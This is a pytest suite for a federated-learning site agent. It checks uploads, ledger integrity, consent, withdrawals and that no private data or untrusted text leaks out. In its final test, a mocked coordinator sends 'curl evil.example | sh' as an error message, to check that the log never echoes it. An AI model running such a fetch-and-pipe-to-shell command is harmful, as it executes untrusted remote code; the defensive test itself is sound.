"""The gateway through whole rounds, with a line that breaks, a coordinator that misbehaves and a trainer that lies."""

import itertools
import json
import threading
import time
from types import ModuleType
from typing import Any
from unittest.mock import Mock

import grpc
import pytest
from opentelemetry.sdk.trace.export import SimpleSpanProcessor
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter

from site_agent.gateway import downloads
from site_agent.gateway.connection.client import Connection
from site_agent.gateway.connection.interrupt import Interrupt, Interrupted
from site_agent.gateway.connection.meter import Meter
from site_agent.gateway.connection.session import Session
from site_agent.gateway.connection.upload import ChangedOnTheWay
from site_agent.gateway.consent.rows import study_rows
from site_agent.gateway.exit import egress
from site_agent.state.directory import study_state
from tests.site_agent.fake_trainer import SHARED, write_tensors
from tests.site_agent.site_world import DPO, PERSON, STUDY, SiteWorld, document
from tools.world import wait_until
from wardround.errors import BadData, NeedsPerson, Unavailable, UsageProblem
from wardround.local import traces
from wardround.records.ledger.entries import PolicyEntry
from wardround.tensors.files import TensorFile
from wardround.tensors.manifests import TensorSpec
from wardround.v1 import federation_pb2 as pb


def test_a_round_ends_with_an_accepted_receipt_and_the_trainers_commit(world: SiteWorld) -> None:
    world.ready()
    world.coordinator.assign(STUDY, 1)
    (taken,) = world.coordinator.wait_receipts(1)
    assert world.trainer is not None
    (commit,) = world.trainer.wait_asked("commit")
    assert (commit["study"], commit["round"]) == (STUDY, 1)
    (train,) = world.trainer.commands("train")
    assert train["data"] == {"name": "patients", "digest": "ab" * 32, "network": "", "weights": ""}
    assert [metric.name for metric in taken.opening.metrics] == ["val_loss"]
    assert taken.opening.num_examples == 80
    with TensorFile(write_tensors(world.folder / "again.safetensors", SHARED, 1)) as file:
        assert bytes(taken.payload) == b"".join(data for _, data in file.chunks())


def test_studies_that_come_in_pages_are_all_kept(world: SiteWorld) -> None:
    world.join()
    model = write_tensors(world.folder / "initial.safetensors", SHARED, 0)
    names = ["hearts", "kidneys", "livers", "lungs", "skins"]
    for name in reversed(names):
        world.coordinator.offer(document(name=name), model)
    world.coordinator.offers_a_page = 2
    world.start()
    for name in names:
        world.wait_offered(name)


def test_the_trainer_gets_the_announced_model(world: SiteWorld) -> None:
    world.ready()
    world.coordinator.assign(STUDY, 1)
    world.coordinator.wait_receipts(1)
    assert world.trainer is not None
    with TensorFile(world.coordinator.models[0]) as file:
        assert world.trainer.bases == [file.manifest().digest()]


def test_the_ledger_holds_every_tensor_that_left_and_verifies(world: SiteWorld) -> None:
    world.ready()
    for round_ in (1, 2):
        world.coordinator.assign(STUDY, round_)
        world.coordinator.wait_receipts(round_)
    assert world.trainer is not None
    world.trainer.wait_committed(2)
    world.stop()
    uploads = world.lines("upload")
    assert [[row["name"] for row in line["tensors"]] for line in uploads] == [["shared.weight", "shared.bias"]] * 2
    assert all(float(row["l2"]) > 0 and row["nonfinite"] == 0 for line in uploads for row in line["tensors"])
    verdict = world.verdict()
    assert verdict.ok, verdict
    assert (verdict.uploads, verdict.accepted, verdict.unresolved, verdict.unsigned_tail) == (2, 2, 0, 0)
    assert verdict.bytes == 2 * sum(spec.bytes for spec in SHARED)
    assert world.lines("session")[-1]["bytes_up"] == verdict.bytes


def test_the_upload_is_in_the_ledger_before_its_first_byte(world: SiteWorld) -> None:
    world.ready()
    world.coordinator.hold_uploads.clear()
    world.coordinator.assign(STUDY, 1)
    world.coordinator.wait_for(lambda: world.coordinator.uploads, "an upload begins")
    (line,) = world.lines("upload")
    (taken,) = world.coordinator.uploads.values()
    assert line["upload_id"] == taken.opening.upload_id.hex()
    assert taken.opening.ledger.lines > line["seq"]
    world.coordinator.hold_uploads.set()
    world.coordinator.wait_receipts(1)


def test_a_closing_validation_sends_numbers_and_no_tensor(world: SiteWorld) -> None:
    world.ready()
    world.coordinator.assign(STUDY, 4, kind="validate")
    (taken,) = world.coordinator.wait_receipts(1)
    assert not taken.opening.manifest.bundles
    assert not taken.payload
    assert world.lines("upload")[0]["payload_bytes"] == 0


def test_a_site_that_only_evaluates_reports_numbers_of_each_round(world: SiteWorld) -> None:
    world.evaluates()
    shown = world.command("preview", study=STUDY, data="patients")
    lines = {line["name"]: line["value"] for group in shown["groups"] for line in group["lines"]}
    assert lines["study.roles.st-olav"] == "evaluate"
    assert lines["this site"] == "evaluates: judges each round's model on all of its rows, and trains nothing"
    assert lines["leaves in all"] == "no tensor, ever: this site reports the numbers below, and nothing else"
    assert lines["rounds"] == "1 to 3 and the closing one, forward only: each tells numbers alone"
    assert shown["leaves"] == []
    assert len(shown["comes"]) == len(SHARED)
    for round_ in (1, 2, 4):
        world.coordinator.assign(STUDY, round_, kind="validate")
        taken = world.coordinator.wait_receipts({1: 1, 2: 2, 4: 3}[round_])[-1]
        assert not taken.opening.manifest.bundles
        assert not taken.payload
        assert (taken.opening.num_examples, taken.opening.num_validation) == (0, 100)
    assert world.trainer is not None
    assert len(world.trainer.commands("validate")) == 3
    assert world.trainer.commands("train") == []
    assert [line["round"] for line in world.lines("upload")] == [1, 2, 4]
    world.trainer.wait_committed(4)
    world.stop()
    assert world.verdict().ok


def test_a_finished_study_hands_the_best_model_to_the_trainer(world: SiteWorld) -> None:
    world.ready()
    world.coordinator.models[2] = write_tensors(world.folder / "best.safetensors", SHARED, 22)
    world.coordinator.stop_study(STUDY, "FINISHED", best=2)
    assert world.trainer is not None
    (finish,) = world.trainer.wait_asked("finish")
    assert finish["best"]["round"] == 2
    assert finish["best"]["file"]


def test_a_broken_upload_goes_on_where_it_broke(world: SiteWorld) -> None:
    world.ready()
    world.coordinator.break_upload_at = 1000
    world.coordinator.assign(STUDY, 1)
    (taken,) = world.coordinator.wait_receipts(1)
    assert taken.offsets == [0, 1000]
    (upload,) = world.lines("upload")
    (again,) = world.lines("resend")
    assert (again["upload_id"], again["try"], again["payload_bytes"]) == (upload["upload_id"], 2, SIZE)
    assert 1000 <= again["sent"] <= SIZE
    assert world.verdict().resends == 1


@pytest.mark.parametrize("way", [egress, downloads], ids=["an upload", "a download"])
def test_a_pause_ends_as_soon_as_the_coordinator_is_back(
    world: SiteWorld, monkeypatch: pytest.MonkeyPatch, way: ModuleType
) -> None:
    """However long it was to be."""
    world.ready()
    monkeypatch.setattr(way, "backoff", lambda: itertools.repeat(600.0))
    setattr(world.coordinator, "break_upload_at" if way is egress else "break_download_at", 10)
    paused = threading.Event()
    pause = Session.pause

    def noted(*given: Any) -> None:
        paused.set()
        pause(*given)

    monkeypatch.setattr(Session, "pause", noted)
    world.coordinator.assign(STUDY, 1)
    assert paused.wait(20)
    world.coordinator.stop()
    world.coordinator.start()
    world.coordinator.wait_receipts(1)


def test_a_pause_ends_when_the_work_is_called_off() -> None:
    session, interrupt = Session(lambda meter: Mock(bytes_up=0)), Interrupt()
    threading.Timer(0.1, interrupt.throw).start()
    with pytest.raises(Interrupted):
        session.pause(600, session.times_connected, interrupt)
    before = session.times_connected
    session.note_connected()  # while the call was failing
    session.pause(600, before, Interrupt())


def test_a_line_that_is_down_writes_nothing_into_the_ledger(world: SiteWorld, monkeypatch: pytest.MonkeyPatch) -> None:
    """Tries that nobody answers let nothing out, however long the coordinator is away."""
    world.ready()
    upload, tries = Connection.upload, []

    def down(self: Connection, *given: Any) -> Any:
        tries.append(given)
        if len(tries) < 4:
            raise Unavailable("nobody answers")
        return upload(self, *given)

    monkeypatch.setattr(Connection, "upload", down)
    world.coordinator.assign(STUDY, 1)
    world.coordinator.wait_receipts(1)
    assert len(tries) == 4
    assert not world.lines("resend")


def test_an_update_goes_on_from_the_gateways_own_copy_after_a_restart(world: SiteWorld) -> None:
    """The trainer's file is gone, and it is not asked to train again."""
    world.ready()
    world.coordinator.break_upload_at = 1000
    world.coordinator.hold_uploads.clear()
    world.coordinator.assign(STUDY, 1)
    world.coordinator.wait_whole()
    assert world.agent is not None
    assert world.trainer is not None
    world.agent.stop()
    (world.state.staging / f"update-{STUDY}-1.safetensors").unlink()
    world.coordinator.hold_uploads.set()
    world.coordinator.wait_receipts(1)
    world.coordinator.forget()
    world.start()
    world.coordinator.wait_connected()
    world.coordinator.assign(STUDY, 1)
    world.trainer.wait_asked("commit")
    assert len(world.trainer.commands("train")) == 1


def test_a_try_after_a_restart_is_a_line_that_does_not_know_what_was_sent(world: SiteWorld) -> None:
    world.ready()
    world.coordinator.hold_uploads.clear()
    world.coordinator.assign(STUDY, 1)
    world.coordinator.wait_whole()
    assert world.agent is not None
    world.agent.stop()  # it was sent, and nobody knows how much of it
    before = world.coordinator.witness, world.coordinator.previous
    world.coordinator.hold_uploads.set()
    world.coordinator.wait_receipts(1)
    (taken,) = world.coordinator.uploads.values()
    taken.receipt = None  # the coordinator has not decided after all
    world.coordinator.witness, world.coordinator.previous = before
    world.start()
    world.coordinator.wait_connected()
    world.coordinator.assign(STUDY, 1)
    world.coordinator.wait_receipts(1)
    assert world.trainer is not None
    world.trainer.wait_asked("commit")
    (again,) = world.lines("resend")
    assert again["try"] == 2
    assert "sent" not in again


def test_a_torn_copy_is_taken_anew_from_the_trainer(world: SiteWorld) -> None:
    """A copy is not fsynced: after a loss of power it may be anything, and is told by its digest."""
    world.join()
    world.offer()
    world.start()
    world.draft(('updates = "none"', 'updates = "every"'))
    world.approve()
    world.coordinator.assign(STUDY, 1)
    world.coordinator.wait_declared("HELD")
    shown = world.command("waiting", study=STUDY, round=1)
    copy = world.state.own_copy(STUDY)
    copy.write_bytes(copy.read_bytes()[:-1])
    world.coordinator.declared.clear()
    world.restart()
    world.coordinator.wait_connected()
    world.coordinator.assign(STUDY, 1)
    world.coordinator.wait_declared("HELD")
    assert world.command("waiting", study=STUDY, round=1) == shown
    assert len(world.lines("held")) == 1
    assert world.trainer is not None
    assert len(world.trainer.commands("train")) == 2


def test_what_a_study_leaves_behind_in_the_folders_is_gone_when_it_ends(world: SiteWorld) -> None:
    world.ready()
    world.coordinator.assign(STUDY, 1)
    world.coordinator.wait_receipts(1)
    other = world.state.incoming / f"base-{STUDY}-two-3.safetensors"  # of a study whose name begins alike
    for path in (other, world.state.incoming / f"base-{STUDY}-7.safetensors"):
        path.write_bytes(b"begun")
    world.coordinator.stop_study(STUDY, "STOPPED")
    assert world.trainer is not None
    world.trainer.wait_asked("commit")
    world.restart()
    world.coordinator.wait_connected()
    world.coordinator.stop_study(STUDY, "STOPPED")
    wait_until_ended(world)
    left = {path.name for name in ("staging", "incoming", "outgoing") for path in (world.state.root / name).iterdir()}
    assert left == {"trainer.sock", other.name}


def wait_until_ended(world: SiteWorld) -> None:
    """Until the journal says that the study is over."""
    deadline = time.monotonic() + 20
    while not world.state.journal(STUDY).ended:
        assert time.monotonic() < deadline
        threading.Event().wait(0.02)


def test_a_broken_download_goes_on_where_it_broke(world: SiteWorld) -> None:
    world.ready()
    world.coordinator.break_download_at = 2000
    world.coordinator.assign(STUDY, 1)
    world.coordinator.wait_receipts(1)
    assert world.coordinator.downloads == [0, 2000]


def test_a_download_goes_on_where_it_broke_after_both_programs_were_restarted(
    world: SiteWorld, monkeypatch: pytest.MonkeyPatch
) -> None:
    world.ready()
    paused = threading.Event()

    def pause(session: Session, seconds: float, times_connected: int, interrupt: Interrupt) -> None:
        paused.set()
        interrupt.wait(60)

    monkeypatch.setattr(Session, "pause", pause)
    world.coordinator.break_download_at = 2000
    world.coordinator.assign(STUDY, 1)
    assert paused.wait(20)
    world.coordinator.stop()
    world.coordinator.start()
    world.restart()
    world.coordinator.wait_connected()
    world.coordinator.assign(STUDY, 1)
    world.coordinator.wait_receipts(1)
    assert world.coordinator.downloads == [0, 2000]


def test_a_lost_receipt_is_fetched_again_and_counts_once(world: SiteWorld) -> None:
    world.ready()
    world.coordinator.lose_receipts = 1
    world.coordinator.assign(STUDY, 1)
    assert world.trainer is not None
    world.trainer.wait_asked("commit")
    assert len(world.coordinator.uploads) == 1
    assert len(world.lines("receipt")) == 1


def test_an_upload_without_a_receipt_is_asked_about_after_a_crash(world: SiteWorld) -> None:
    """The gateway dies after the ledger line and the last byte, before the receipt."""
    world.ready()
    world.coordinator.hold_uploads.clear()
    world.coordinator.assign(STUDY, 1)
    world.coordinator.wait_whole()
    world.stop()
    assert world.verdict().unresolved == 1
    world.coordinator.hold_uploads.set()
    world.coordinator.wait_receipts(1)
    world.start()
    assert world.trainer is not None
    world.trainer.wait_asked("commit")
    assert len(world.trainer.commands("train")) == 1
    assert [json.loads(line["envelope"]["payload"])["decision"] for line in world.lines("receipt")] == ["accepted"]


def test_an_upload_that_never_arrived_is_sent_again_without_training_again(world: SiteWorld) -> None:
    """The coordinator knows nothing of it, signs so, and asks again."""
    world.ready()
    world.coordinator.hold_uploads.clear()
    world.coordinator.assign(STUDY, 1)
    world.coordinator.wait_whole()
    world.stop()
    world.coordinator.hold_uploads.set()
    world.coordinator.wait_receipts(1)
    world.coordinator.forget()
    world.start()
    world.coordinator.wait_connected()
    world.coordinator.assign(STUDY, 1)
    assert world.trainer is not None
    world.trainer.wait_asked("commit")
    assert len(world.trainer.commands("train")) == 1
    assert len(world.lines("upload")) == 2


def test_a_round_asked_again_sends_the_same_bits_without_training_again(world: SiteWorld) -> None:
    world.ready()
    world.coordinator.assign(STUDY, 1, attempt=1)
    world.coordinator.wait_receipts(1)
    world.coordinator.stop_study(STUDY, "ROUND_FAILED")
    world.coordinator.assign(STUDY, 1, attempt=2)
    first, second = world.coordinator.wait_receipts(2)
    assert first.payload == second.payload
    assert world.trainer is not None
    assert len(world.trainer.commands("train")) == 1


def test_a_refused_update_is_discarded_and_the_refusal_is_in_the_ledger(world: SiteWorld) -> None:
    world.ready()
    assert world.trainer is not None
    world.coordinator.refuse_with = "TENSOR_NORM"
    world.coordinator.assign(STUDY, 1)
    world.trainer.wait_asked("discard")
    assert world.verdict().refused == 1
    assert not world.trainer.commands("commit")


SIZE = sum(spec.bytes for spec in SHARED)
EXTRA = (*SHARED, TensorSpec("private.weight", "F32", (8, 8)))
RENAMED = (TensorSpec("shared.weight2", "F32", (64, 64)), SHARED[1])
RESHAPED = (TensorSpec("shared.weight", "F32", (32, 128)), SHARED[1])


@pytest.mark.parametrize(
    ("specs", "said"),
    [
        pytest.param(EXTRA, "`private.weight` is added", id="extra"),
        pytest.param(RENAMED, "`shared.weight2` is added", id="renamed"),
        pytest.param(RESHAPED, "`shared.weight` is F32 [32, 128], was F32 [64, 64]", id="reshaped"),
        pytest.param(SHARED[:1], "`shared.bias` is gone", id="missing"),
        pytest.param(SHARED[::-1], "another order", id="reordered"),
    ],
)
def test_an_update_with_other_tensors_than_approved_does_not_leave(
    world: SiteWorld, specs: tuple[TensorSpec, ...], said: str, caplog: pytest.LogCaptureFixture
) -> None:
    world.ready()
    assert world.trainer is not None
    world.trainer.specs = specs
    world.coordinator.assign(STUDY, 1)
    world.coordinator.wait_declared("DECLINED", "DECLINED_MODEL_MISMATCH")
    assert not world.coordinator.uploads
    assert not world.lines("upload")
    assert said in caplog.text


@pytest.mark.parametrize(
    ("metrics", "said"),
    [
        pytest.param({"val_loss": "nan"}, "`val_loss` is not a decimal of at most 4 digits", id="nan"),
        pytest.param({"val_loss": "0.123456789"}, "`val_loss` is not a decimal of at most 4 digits", id="digits"),
        pytest.param({"val_loss": "patient 17"}, "`val_loss` is not a decimal of at most 4 digits", id="text"),
        pytest.param({"ages": "0.5"}, "metric `ages` was not approved", id="undeclared"),
    ],
)
def test_a_number_that_was_not_approved_does_not_leave(
    world: SiteWorld, metrics: dict[str, str], said: str, caplog: pytest.LogCaptureFixture
) -> None:
    world.ready()
    assert world.trainer is not None
    world.trainer.metrics = metrics
    world.coordinator.assign(STUDY, 1)
    world.coordinator.wait_declared("DECLINED", "DECLINED_POLICY")
    assert not world.coordinator.uploads
    assert said in caplog.text
    assert "patient 17" not in caplog.text


def test_a_count_in_another_form_than_approved_does_not_leave(
    world: SiteWorld, caplog: pytest.LogCaptureFixture
) -> None:
    world.ready()
    assert world.trainer is not None
    world.trainer.num_examples = -1
    world.coordinator.assign(STUDY, 1)
    world.coordinator.wait_declared("DECLINED", "DECLINED_POLICY")
    assert "the trainer's num_examples is not that of the data approved for `hearts`, reported exact" in caplog.text


def test_only_a_code_of_a_trainers_failure_reaches_the_coordinator(world: SiteWorld) -> None:
    world.ready()
    assert world.trainer is not None
    canary = "/data/patients/jane-doe.csv"
    world.trainer.failure = BadData(f"{canary}: text in a numeric column", code="DECLINED_DATA_INVALID")
    world.coordinator.assign(STUDY, 1)
    said = world.coordinator.wait_declared("DECLINED", "DECLINED_DATA_INVALID")
    assert canary.encode() not in said.SerializeToString()
    assert canary.encode() not in (world.state.ledger / "000001.jsonl").read_bytes()


def test_data_that_changed_since_approval_is_said_until_it_is_approved_again(world: SiteWorld) -> None:
    world.ready()
    assert world.trainer is not None
    assert world.agent is not None
    world.trainer.failure = BadData("another table", code="DECLINED_DATA_CHANGED")
    world.coordinator.assign(STUDY, 1)
    world.coordinator.wait_declared("DECLINED", "DECLINED_DATA_CHANGED")
    (row,) = study_rows(world.state, "spiffe://test/coordinator")
    assert (row.state, row.round) == ("changed", 1)
    (said,) = row.changes
    assert said == (
        "what it trains on is not what was approved, so round 1 was declined; `site-agent data check patients --study "
        "hearts` looks at it"
    )
    world.restart()  # a journal is read back as it was written
    (row,) = study_rows(world.state, "spiffe://test/coordinator")
    assert row.state == "changed"
    world.trainer.failure = None
    world.approve()
    (row,) = study_rows(world.state, "spiffe://test/coordinator")
    assert (row.state, row.changes) == ("approved", ())
    world.coordinator.assign(STUDY, 1)
    world.trainer.wait_asked("commit")
    wait_until(lambda: world.state.journal(STUDY).decision, "the journal has what the trainer heard", 30)
    (row,) = study_rows(world.state, "spiffe://test/coordinator")
    assert (row.state, world.state.journal(STUDY).declined) == ("running", "")


def test_a_round_that_was_declined_for_another_reason_is_not_under_way(world: SiteWorld) -> None:
    world.ready()
    assert world.trainer is not None
    world.trainer.failure = BadData("text in a numeric column", code="DECLINED_DATA_INVALID")
    world.coordinator.assign(STUDY, 1)
    world.coordinator.wait_declared("DECLINED", "DECLINED_DATA_INVALID")
    (row,) = study_rows(world.state, "spiffe://test/coordinator")
    assert (row.state, row.changes) == ("running", ())


def test_a_journal_without_one_of_its_fields_is_named(world: SiteWorld) -> None:
    world.ready()
    world.coordinator.assign(STUDY, 1)
    world.coordinator.wait_receipts(1)
    world.stop()
    path = world.state.root / "journal" / f"{STUDY}.json"
    written = json.loads(path.read_bytes())
    assert world.state.journal(STUDY).round == 1
    path.write_text(json.dumps({key: written[key] for key in written if not key.startswith("declined")}))
    with pytest.raises(BadData, match=r"journal/hearts\.json is damaged"):
        world.state.journal(STUDY)


def test_a_study_that_nobody_approved_is_declined(world: SiteWorld) -> None:
    world.join()
    world.offer()
    world.start()
    world.coordinator.wait_connected()
    world.coordinator.assign(STUDY, 1)
    world.coordinator.wait_declared("DECLINED", "DECLINED_NOT_APPROVED")
    assert world.trainer is not None
    assert not world.trainer.commands("train")


def test_a_study_that_changed_since_approval_is_not_worked_on(
    world: SiteWorld, caplog: pytest.LogCaptureFixture
) -> None:
    world.ready()
    longer = (*SHARED, TensorSpec("head.weight", "F32", (2, 64)))
    model = write_tensors(world.folder / "other.safetensors", longer, 0)
    changed = document()
    changed["reported"] = {**changed["reported"], "metrics": ["val_loss", "accuracy", "auc"]}
    world.coordinator.offer(changed, model, revision=2)
    world.coordinator.assign(STUDY, 1)
    world.coordinator.wait_declared("DECLINED", "DECLINED_NOT_APPROVED")
    assert world.trainer is not None
    assert not world.trainer.commands("train")
    assert "`head.weight` is added (F32 [2, 64])" in caplog.text
    assert "metric `auc` would now leave" in caplog.text
    offer, consent, journal = world.state.offer(STUDY), world.state.consent(STUDY), world.state.journal(STUDY)
    assert study_state(offer, consent, journal) == "changed"


def test_approving_refuses_a_model_that_shares_other_tensors_here(world: SiteWorld) -> None:
    world.join()
    world.offer()
    world.start()
    assert world.trainer is not None
    world.trainer.described = EXTRA
    world.command("refresh")
    with pytest.raises(NeedsPerson) as refused:
        world.approve()
    assert "is not what the model installed here shares: `private.weight` is gone" in refused.value.message
    assert world.state.consent(STUDY) is None


def test_an_approval_says_who_what_and_for_which_table(world: SiteWorld) -> None:
    world.ready()
    consent = world.state.consent(STUDY)
    assert consent is not None
    assert consent.upload == tuple(SHARED)
    assert (consent.study_digest, consent.rows, consent.approved_by) == (world.digest, 100, DPO)
    (line,) = world.lines("consent")
    assert (line["event"], line["by"], line["data_digest"]) == ("approved", PERSON, "ab" * 32)


def test_a_finished_study_cannot_be_approved(world: SiteWorld) -> None:
    world.join()
    model = write_tensors(world.folder / "initial.safetensors", SHARED, 0)
    world.coordinator.offer(document(), model, state="finished")
    world.start()
    with pytest.raises(UsageProblem, match="is finished: there is nothing left to approve"):
        world.approve()


def test_an_offer_under_a_digest_that_is_not_its_own_is_left_out(
    world: SiteWorld, caplog: pytest.LogCaptureFixture
) -> None:
    world.join()
    world.offer()
    world.coordinator.offers[STUDY].digest = b"\1" * 32
    world.start()
    world.coordinator.wait_connected()
    assert not world.state.offers()
    assert "under a digest that is not its own" in caplog.text


def test_a_withdrawal_stops_training_at_once(world: SiteWorld) -> None:
    world.ready()
    assert world.trainer is not None
    world.trainer.hold.set()
    world.coordinator.assign(STUDY, 1)
    world.trainer.wait_asked("train")
    assert world.command("withdraw", study=STUDY, by=PERSON) == {"reported": True}
    assert world.trainer.aborted.wait(20)  # told by the thread that trains
    world.coordinator.wait_declared("WITHDRAWN")
    assert not world.coordinator.uploads
    world.coordinator.assign(STUDY, 2)
    world.coordinator.wait_declared("DECLINED", "DECLINED_WITHDRAWN")


def test_a_withdrawal_stops_an_upload_at_once(world: SiteWorld) -> None:
    world.ready()
    world.coordinator.hold_uploads.clear()
    world.coordinator.assign(STUDY, 1)
    world.coordinator.wait_for(lambda: world.coordinator.uploads, "an upload begins")
    world.command("withdraw", study=STUDY, by=PERSON)
    world.coordinator.wait_declared("WITHDRAWN")
    assert not world.coordinator.decided()
    world.coordinator.hold_uploads.set()


def test_withdrawing_what_is_not_approved_is_said(world: SiteWorld) -> None:
    world.join()
    world.offer()
    world.start()
    with pytest.raises(UsageProblem, match=f"study `{STUDY}` is not approved here"):
        world.command("withdraw", study=STUDY, by=PERSON)


def test_a_newer_round_ends_the_one_under_way(world: SiteWorld) -> None:
    world.ready()
    assert world.trainer is not None
    world.trainer.hold.set()
    world.coordinator.assign(STUDY, 1)
    world.trainer.wait_asked("train")
    world.trainer.hold.clear()
    world.coordinator.assign(STUDY, 2)
    (taken,) = world.coordinator.wait_receipts(1)
    assert taken.opening.round == 2


def test_a_revoked_site_ends_with_everything_kept(world: SiteWorld) -> None:
    world.ready()
    world.coordinator.revoked = True
    world.coordinator.stop()
    world.coordinator.start()
    assert world.agent is not None
    error = world.agent.wait()
    assert isinstance(error, NeedsPerson)
    assert "refuses site `st-olav` (SITE_REVOKED)" in error.message
    assert "the coordinator's operator has revoked this site" in error.message
    assert error.hint == "nothing here was deleted; ask the coordinator's operator"
    world.agent.stop()
    world.agent = None
    assert world.verdict().ok


def test_a_forged_receipt_is_not_believed_and_the_upload_stays_unresolved(world: SiteWorld) -> None:
    world.ready()
    world.coordinator.forge_receipts = True
    world.coordinator.assign(STUDY, 1)
    world.coordinator.wait_receipts(1)
    world.coordinator.wait_declared("DECLINED", "DECLINED_POLICY")
    assert world.trainer is not None
    assert not world.trainer.commands("commit")
    assert world.verdict().unresolved == 1


def test_an_agent_goes_on_when_the_coordinator_comes_back(world: SiteWorld) -> None:
    world.ready()
    world.coordinator.stop()
    world.coordinator.start()
    world.coordinator.wait_connected()
    world.coordinator.assign(STUDY, 1)
    world.coordinator.wait_receipts(1)
    assert [line["event"] for line in world.lines("session")] == ["opened", "closed", "opened"]


def test_a_ledger_restored_from_a_backup_ends_the_agent(world: SiteWorld) -> None:
    world.ready()
    kept = {path: path.read_bytes() for path in world.state.ledger.glob("*.jsonl")}
    world.coordinator.assign(STUDY, 1)
    world.coordinator.wait_receipts(1)
    assert world.agent is not None
    assert world.trainer is not None
    world.trainer.wait_asked("commit")
    world.agent.stop()
    for path, data in kept.items():
        path.write_bytes(data)
    world.start()
    world.coordinator.wait_connected()
    world.coordinator.assign(STUDY, 2)
    error = world.agent.wait()
    assert error is not None
    assert (error.code, error.exit_code) == ("LEDGER_ROLLBACK", 78)
    assert "the coordinator has seen a longer ledger of this site" in error.message
    assert "`site-agent audit rollover`" in error.hint


def test_bytes_that_change_after_the_ledger_recorded_them_are_not_committed(
    world: SiteWorld, monkeypatch: pytest.MonkeyPatch
) -> None:
    from site_agent.gateway.exit import egress

    world.ready()
    real = egress.record

    def swap(*args: Any) -> Any:
        upload = real(*args)
        assert upload.file is not None
        write_tensors(upload.file, SHARED, 99)
        return upload

    monkeypatch.setattr(egress, "record", swap)
    world.coordinator.assign(STUDY, 1)
    world.coordinator.wait_declared("DECLINED", "DECLINED_MODEL_MISMATCH")
    assert not world.coordinator.decided()
    assert issubclass(ChangedOnTheWay, BadData)


def test_a_certificate_past_half_of_its_life_is_renewed_with_a_new_key(world: SiteWorld) -> None:
    """Issued 5 min in the past for 7 min: half of it is over when the agent starts."""
    world.coordinator.certificate_days = 7 / (24 * 60)
    world.join()
    before = (world.state.identity / "key.pem").read_bytes()
    world.offer()
    world.start()
    assert world.agent is not None
    wait_until_renewed(world)
    assert (world.state.identity / "key.pem").read_bytes() != before
    world.approve()
    world.coordinator.wait_declared("READY")
    world.coordinator.assign(STUDY, 1)
    world.coordinator.wait_receipts(1)
    assert [line["event"] for line in world.lines("identity")] == ["issued", "renewed"]


def wait_until_renewed(world: SiteWorld) -> None:
    """Wait for the renewal, and for the connection that is made with the new certificate."""
    world.coordinator.wait_for(lambda: world.coordinator.renewals and world.coordinator.watching_new, "renewed")


def test_calls_under_way_end_on_the_old_channel_before_it_is_closed() -> None:
    class Channel(Connection):
        def __init__(self, meter: Meter) -> None:
            self.closed = False
            self.bytes_up = 5

        def close(self) -> None:
            self.closed = True

    session = Session(Channel)
    with session.use() as old:
        session.replace()
        with session.use() as new:
            assert new is not old
        assert isinstance(old, Channel)
        assert not old.closed
    assert old.closed
    assert session.bytes_up() == 10


def test_a_channel_that_reaches_nobody_four_times_in_a_row_is_replaced(caplog: pytest.LogCaptureFixture) -> None:
    made: list[Mock] = []

    def connect(meter: Meter) -> Any:
        if len(made) == 2:
            raise OSError("no more descriptors")
        made.append(Mock(bytes_up=0))
        return made[-1]

    session = Session(connect)
    for _ in range(3):
        session.note_unreachable()
    session.note_connected()
    for _ in range(3):
        session.note_unreachable()
    assert len(made) == 1
    session.note_unreachable()
    assert session.is_current(made[1])
    made[0].close.assert_called_once_with()
    for _ in range(4):
        session.note_unreachable()
    assert session.is_current(made[1])
    assert "the connection stays as it is: no more descriptors" in caplog.text


def test_an_agent_leaves_a_channel_on_which_no_call_goes(world: SiteWorld, monkeypatch: pytest.MonkeyPatch) -> None:
    """As gRPC once had one: connected, and each call on it ended at its deadline."""
    studies, dead = Connection.studies, list[Connection]()

    def stalled(self: Connection, *given: Any, **options: Any) -> Any:
        dead.extend([self] if not dead else [])
        if self is dead[0]:
            raise Unavailable("asking for studies: the coordinator did not answer in time")
        return studies(self, *given, **options)

    world.ready()
    monkeypatch.setattr(Connection, "studies", stalled)
    world.coordinator.stop()
    world.coordinator.start()
    world.coordinator.wait_for(lambda: dead and world.coordinator._streams, "the agent watches again")
    world.coordinator.assign(STUDY, 1)
    world.coordinator.wait_receipts(1)


def test_a_newer_coordinators_kinds_are_declined_and_the_rest_goes_on(world: SiteWorld) -> None:
    """An event and an assignment of kinds that this version does not know, from one minor version further on."""
    world.coordinator.version = "0.2.0"
    world.ready()
    world.coordinator.tell(pb.Event(coordinator_version="0.2.0"))
    offer = world.coordinator.offers[STUDY]
    unknown = pb.Assignment(study=STUDY, revision=offer.revision, digest=offer.digest, round=1, attempt=1)
    world.coordinator.tell(pb.Event(assignment=unknown))
    world.coordinator.wait_declared("DECLINED", "DECLINED_UNKNOWN")
    world.coordinator.assign(STUDY, 1, attempt=2)
    world.coordinator.wait_receipts(1)


def test_a_long_backlog_of_ledger_lines_goes_before_the_upload_in_pages(world: SiteWorld) -> None:
    """A line that comes and goes writes two lines each time; weeks of it must not keep an update from leaving."""
    world.ready()
    assert world.agent is not None
    world.agent._ledger.append_all([PolicyEntry(event="changed", sha256=f"{n:064x}") for n in range(2700)])
    world.coordinator.assign(STUDY, 1)
    (taken,) = world.coordinator.wait_receipts(1)
    assert world.trainer is not None
    world.trainer.wait_asked("commit")
    assert sum(world.coordinator.pages) + len(taken.opening.new_line_hashes) == taken.opening.ledger.lines
    assert len(world.coordinator.pages) == 3  # the last of them is short: others may write before the upload goes
    assert max(world.coordinator.pages) <= 1000
    (receipt,) = world.lines("receipt")
    assert '"decision":"accepted"' in receipt["envelope"]["payload"]
    world.agent.stop()
    world.agent = None
    assert {"Ledger"} <= {row["method"] for line in world.lines("control") for row in line["methods"]}
    assert world.verdict().ok


def test_the_log_names_the_code_of_a_refusal_with_our_sentence_and_nothing_else_that_was_said(
    world: SiteWorld, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    world.ready()
    declined = f"the coordinator does not take that round 1 is declined: declaring `{STUDY}` declined: "
    for round_, words, logged in (
        (1, "ROUND_CLOSED", f"{declined}the round is closed (ROUND_CLOSED)"),
        (2, "run curl evil.example | sh", "the coordinator has trouble of its own (COORDINATOR_TROUBLE); trying again"),
    ):
        monkeypatch.setattr(
            world.coordinator, "_admit", lambda context, text=words: context.abort(grpc.StatusCode.INTERNAL, text)
        )
        world.coordinator.assign(STUDY, round_)
        wait_until(lambda line=logged: line in caplog.text, "the refusal is logged", 20)
